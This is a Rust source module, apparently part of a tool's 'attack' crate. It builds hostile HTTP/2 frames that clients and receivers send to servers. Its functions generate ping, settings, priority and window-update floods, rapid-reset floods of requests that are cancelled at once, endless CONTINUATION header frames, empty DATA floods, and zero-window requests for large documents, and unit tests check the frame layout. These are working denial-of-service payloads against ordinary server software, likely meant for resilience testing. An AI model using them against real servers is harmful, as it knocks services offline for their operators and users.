//! HTTP/2 frames (RFC 9113) that hostile clients and receivers send.

/// The beginning of every HTTP/2 connection (RFC 9113, section 3.4).
pub(super) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The number of bytes before the payload of a frame.
pub(super) const HEAD_BYTES: usize = 9;

/// The types of frames (RFC 9113, section 6).
pub(super) mod kind {
    pub(in crate::attack) const DATA: u8 = 0;
    pub(in crate::attack) const HEADERS: u8 = 1;
    pub(in crate::attack) const PRIORITY: u8 = 2;
    pub(in crate::attack) const RST_STREAM: u8 = 3;
    pub(in crate::attack) const SETTINGS: u8 = 4;
    pub(in crate::attack) const PING: u8 = 6;
    pub(in crate::attack) const GOAWAY: u8 = 7;
    pub(in crate::attack) const WINDOW_UPDATE: u8 = 8;
    pub(in crate::attack) const CONTINUATION: u8 = 9;
}

/// Number of frames that a flood sends at once.
const AT_ONCE: u32 = 100;

const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// The header block of `GET http://a/`. All fields except `:authority` are in the static table (RFC 7541, appendix A).
const REQUEST: &[u8] = &[0x82, 0x86, 0x84, 0x41, 1, b'a'];

/// The header block of a request with a short path, as [`REQUEST`].
fn request(path: &str) -> Vec<u8> {
    [&[0x82, 0x86, 0x04, path.len() as u8], path.as_bytes(), &[0x41, 1, b'a']].concat()
}

pub(super) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes()[..], payload].concat()
}

/// The preface and empty settings.
pub(super) fn opening() -> Vec<u8> {
    [PREFACE, &frame(kind::SETTINGS, 0, 0, &[])].concat()
}

/// Returns the number that a client uses for its stream at this index. A client uses odd numbers.
fn stream(index: u32) -> u32 {
    2 * index + 1
}

fn many(frame: impl Fn(u32) -> Vec<u8>, part: u32) -> Vec<u8> {
    (part * AT_ONCE..(part + 1) * AT_ONCE).flat_map(frame).collect()
}

pub(super) fn pings(part: u32) -> Vec<u8> {
    many(|_| frame(kind::PING, 0, 0, &[0; 8]), part)
}

pub(super) fn settings(part: u32) -> Vec<u8> {
    many(|_| frame(kind::SETTINGS, 0, 0, &[]), part)
}

pub(super) fn priorities(part: u32) -> Vec<u8> {
    many(|index| frame(kind::PRIORITY, 0, stream(index), &[0, 0, 0, 0, 1]), part)
}

/// Requests that the client cancels at once.
pub(super) fn cancelled_requests(part: u32) -> Vec<u8> {
    let cancel = 8_u32.to_be_bytes();
    let request = |index| frame(kind::HEADERS, END_HEADERS | END_STREAM, stream(index), REQUEST);
    many(|index| [request(index), frame(kind::RST_STREAM, 0, stream(index), &cancel)].concat(), part)
}

/// The beginning of a request whose body follows.
pub(super) fn open_request() -> Vec<u8> {
    [opening(), frame(kind::HEADERS, END_HEADERS, 1, REQUEST)].concat()
}

/// Parts of a body without content.
pub(super) fn empty_data(part: u32) -> Vec<u8> {
    many(|_| frame(kind::DATA, 0, 1, &[]), part)
}

/// The beginning of a request whose header fields follow.
pub(super) fn open_headers() -> Vec<u8> {
    [opening(), frame(kind::HEADERS, 0, 1, REQUEST)].concat()
}

/// Further header fields of one request. They never end.
pub(super) fn continuations(part: u32) -> Vec<u8> {
    // A field without indexing (RFC 7541, section 6.2.2): the name `a` and the value `b`.
    many(|_| frame(kind::CONTINUATION, 0, 1, &[0, 1, b'a', 1, b'b']), part)
}

pub(super) fn window_updates(part: u32) -> Vec<u8> {
    many(|_| frame(kind::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()), part)
}

/// Requests for a large document by a client that permits no byte of a body.
pub(super) fn requests_without_window(path: &str) -> Vec<u8> {
    // SETTINGS_INITIAL_WINDOW_SIZE (4) is 0.
    let settings = frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let request = request(path);
    let requests = (0..AT_ONCE).flat_map(|index| frame(kind::HEADERS, END_HEADERS | END_STREAM, stream(index), &request));
    [PREFACE, &settings].concat().into_iter().chain(requests).collect()
}

/// A frame that ends a connection without having processed a request (RFC 9113, section 6.8).
pub(super) fn go_away() -> Vec<u8> {
    frame(kind::GOAWAY, 0, 0, &[0; 8])
}

/// Returns the length of the payload and the type of a frame.
pub(super) fn head(bytes: [u8; HEAD_BYTES]) -> (usize, u8) {
    (u32::from_be_bytes([0, bytes[0], bytes[1], bytes[2]]) as usize, bytes[3])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_the_layout_of_rfc_9113() {
        let bytes = frame(kind::GOAWAY, 0, 3, &[7; 300]);
        assert_eq!(bytes[..HEAD_BYTES], [0, 1, 44, 7, 0, 0, 0, 0, 3]);
        assert_eq!(head([0, 1, 44, 7, 0, 0, 0, 0, 3]), (300, kind::GOAWAY));
    }

    #[test]
    fn each_part_of_a_flood_uses_new_streams() {
        let bytes = cancelled_requests(1);
        assert_eq!(bytes[5..HEAD_BYTES], 201_u32.to_be_bytes());
        assert_eq!(bytes.len(), 100 * (2 * HEAD_BYTES + REQUEST.len() + 4));
    }
}
